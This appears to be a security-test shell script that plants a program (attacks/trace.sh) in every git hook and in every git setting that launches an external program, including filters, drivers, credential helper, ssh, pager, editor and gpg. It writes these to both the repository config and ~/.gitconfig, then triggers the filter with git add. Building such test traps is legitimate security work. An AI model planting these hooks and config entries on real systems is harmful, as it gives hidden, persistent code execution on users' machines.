# Plants a program everywhere git reads one from: hooks, filters, drivers, helpers, pagers, in .git/config and ~/.gitconfig.
cd /workspace/site || exit 1
tools=/workspace/home/planted
mkdir -p "$tools" .git/hooks
for name in clean smudge process merge diff textconv ssh credential fsmonitor pager gpg editor askpass hook proxy uploadpack; do
  cp attacks/trace.sh "$tools/$name" && chmod +x "$tools/$name"
done
for hook in pre-commit post-commit prepare-commit-msg commit-msg pre-push post-checkout post-merge reference-transaction \
  post-index-change pre-auto-gc post-rewrite pre-rebase applypatch-msg post-applypatch; do
  cp attacks/trace.sh ".git/hooks/$hook" && chmod +x ".git/hooks/$hook"
done
for file in .git/config "$HOME/.gitconfig"; do
  set_value() { git config --file "$file" "$1" "$2"; }
  set_value core.hooksPath "$PWD/.git/hooks"
  set_value core.fsmonitor "$tools/fsmonitor"
  set_value core.sshCommand "$tools/ssh"
  set_value core.pager "$tools/pager"
  set_value core.editor "$tools/editor"
  set_value core.askPass "$tools/askpass"
  set_value core.gitProxy "$tools/proxy"
  set_value credential.helper "$tools/credential"
  set_value filter.planted.clean "$tools/clean"
  set_value filter.planted.smudge "$tools/smudge"
  set_value merge.planted.driver "$tools/merge %A"
  set_value diff.external "$tools/diff"
  set_value diff.planted.textconv "$tools/textconv"
  set_value diff.planted.command "$tools/diff"
  set_value gpg.program "$tools/gpg"
  set_value commit.gpgSign true
  set_value remote.origin.uploadpack "$tools/uploadpack"
  set_value remote.origin.receivepack "$tools/uploadpack"
done
echo '*.txt filter=planted diff=planted merge=planted' >.gitattributes
mkdir -p public
echo "text for the filter" >public/filtered.txt
# The trap works: the attacker's own command runs the filter, which leaves its daemon behind.
git add public/filtered.txt
echo planted
